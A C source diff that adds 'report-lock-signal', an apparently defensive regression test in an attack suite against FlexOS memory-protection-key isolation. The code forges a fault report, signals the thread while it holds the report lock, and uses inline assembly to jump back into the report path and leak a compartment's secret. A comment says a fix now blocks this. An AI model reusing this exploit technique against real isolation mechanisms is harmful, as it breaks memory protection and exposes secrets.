@@ -1725,6 +1725,85 @@ static long report_forge(int sigsys, uintptr_t target)
 	return 0;
 }
 
+/*
+ * report-lock-signal (an attack review's): a forged report (evil calls
+ * the SIGSEGV entry itself) takes the report's lock with this thread's
+ * tid; evil's second thread, seeing that tid in the lock word, sends this
+ * thread SIGUSR1, whose handler (evil's) jumps back into the report's
+ * path where it takes the report's PKRU (REPORT_KEYS), with the kind of a
+ * denied call and a "ucontext" over app's secret: the lock check passed
+ * (the same thread) and the report printed the secret (7 of 10 runs, two
+ * CPUs). The report now blocks every signal before it takes the lock: the
+ * handler never runs, the forged report ends the image.
+ */
+static volatile uintptr_t rl_insn, rl_uc, rl_si;
+static volatile int rl_tid, rl_go;
+static volatile uint32_t *rl_lock;
+
+static void rl_handler(int sig)
+{
+	static const char msg[] = "report-lock-signal: evil's handler runs holding the lock\n";
+
+	(void)sig;
+	if ((int)*rl_lock != (int)syscall(SYS_gettid))
+		return;
+	if (write(2, msg, sizeof(msg) - 1) < 0)
+		_exit(3);
+	__asm__ volatile("mov %0, %%r13\n\tmov %1, %%r14\n\tmov $10, %%r12d\n\txor %%ebx, %%ebx\n\t"
+			 "jmp *rl_insn(%%rip)"
+			 :
+			 : "r"(rl_si), "r"(rl_uc)
+			 : "r12", "r13", "r14", "rbx", "memory");
+}
+
+static void *rl_sender(void *arg)
+{
+	(void)arg;
+	while (!rl_go)
+		;
+	while ((int)*rl_lock != rl_tid)
+		;
+	for (int i = 0; i < 4; i++)
+		syscall(SYS_tgkill, getpid(), rl_tid, SIGUSR1);
+	return NULL;
+}
+
+static long report_lock_signal(uintptr_t target)
+{
+	const unsigned char *e = (const unsigned char *)flexos__mpk_segv_entry;
+	/* cmpl $MPK_REPORT_SYSCALL, %r12d; je: the other kinds' REPORT_KEYS follows (6 bytes) */
+	const unsigned char pat[] = {0x41, 0x83, 0xfc, 0x0a, 0x74};
+	siginfo_t *si =
+	    mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	struct sigaction sa;
+	pthread_t t;
+	size_t off;
+
+	for (off = 0; off < 1024 && memcmp(e + off, pat, sizeof(pat)); off++)
+		;
+	if (off == 1024 || si == MAP_FAILED)
+		return 0;
+	rl_insn = (uintptr_t)e + off + 6;
+	si->si_signo = SIGSYS;
+	si->si_code = 1; /* SYS_SECCOMP */
+	((int *)si)[6] = SYS_pkey_alloc;
+	rl_si = (uintptr_t)si;
+	rl_uc = target - (offsetof(ucontext_t, uc_mcontext.gregs) + 8 * REG_RDI);
+	rl_lock = (volatile uint32_t *)flexos__mpk_ro.ro.lock;
+	rl_tid = (int)syscall(SYS_gettid);
+	memset(&sa, 0, sizeof(sa));
+	sa.sa_handler = rl_handler;
+	if (sigaction(SIGUSR1, &sa, NULL) || pthread_create(&t, NULL, rl_sender, NULL))
+		return 0;
+	fprintf(stderr,
+		"report-lock-signal: the report's PKRU taken at %#lx; app's secret at %#lx\n",
+		(unsigned long)rl_insn, (unsigned long)target);
+	usleep(10000);
+	rl_go = 1;
+	flexos__mpk_segv_entry(SIGSEGV, si, NULL); /* a forged report: never returns */
+	return 0;
+}
+
 static long setxid(void)
 {
 	pthread_t t;
@@ -2468,6 +2547,8 @@ long evil_attack(int mode, uintptr_t target, uintptr_t len, long secret)
 		return report_forge(1, target);
 	case 77:
 		return report_forge(0, target);
+	case 78:
+		return report_lock_signal(target);
 	case 73: { /* the options the list allows, and one it does not know */
 		unsigned long fs = 0;
 		r = syscall(SYS_arch_prctl, ARCH_GET_FS, &fs);
